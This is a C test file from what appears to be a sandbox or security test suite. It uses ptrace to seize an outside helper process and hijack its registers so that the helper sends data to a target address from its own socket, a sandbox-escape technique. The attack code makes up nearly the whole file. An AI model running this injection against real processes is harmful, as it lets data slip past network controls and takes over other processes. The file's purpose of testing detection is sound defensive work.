/* SPDX-License-Identifier: GPL-2.0-or-later
 *
 * test/attacks/outside_ptrace_seize.c - ptrace seizes a process outside and runs calls in it
 *
 * attack:   PTRACE_SEIZE; registers set so that the process itself sends to ADDR from its socket
 * expect:   silent control=none
 * event:    ptrace-outside
 * source:   ptrace(2), engine.md "Ways round"
 * root:     no
 * helper:   yes
 */
#include <elf.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

#include "door.h"

/* The helper sits in poll(2): the instruction before its pc is a system call. */
static void run_call(pid_t pid, int udp, unsigned long bytes)
{
#if defined(__x86_64__)
	struct user_regs_struct saved, regs;
	struct iovec span = {&regs, sizeof(regs)};

	if (ptrace(PTRACE_GETREGSET, pid, NT_PRSTATUS, &span) < 0) {
		saw("registers", -1);
		return;
	}
	saved = regs;
	regs.rip -= 2;
	regs.orig_rax = (unsigned long)-1;
	regs.rax = SYS_sendto;
	regs.rdi = (unsigned long)udp;
	regs.rsi = bytes;
	regs.rdx = 1;
	regs.r10 = regs.r8 = regs.r9 = 0;
	ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &span);
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	waitpid(pid, NULL, __WALL);
	regs = saved;
	ptrace(PTRACE_SETREGSET, pid, NT_PRSTATUS, &span);
#else
	(void)pid, (void)udp, (void)bytes;
	skip("written for x86_64");
#endif
}

int main(int argc, char **argv)
{
	struct outside outside;

	door_target(argc, argv);
	outside = find_outside();
	if (ptrace(PTRACE_SEIZE, outside.pid, 0, 0) < 0 ||
	    ptrace(PTRACE_INTERRUPT, outside.pid, 0, 0) < 0) {
		saw("seize", -1);
		return 0;
	}
	waitpid(outside.pid, NULL, __WALL);
	run_call(outside.pid, outside.udp, outside.target);
	ptrace(PTRACE_DETACH, outside.pid, 0, 0);
	return 0;
}
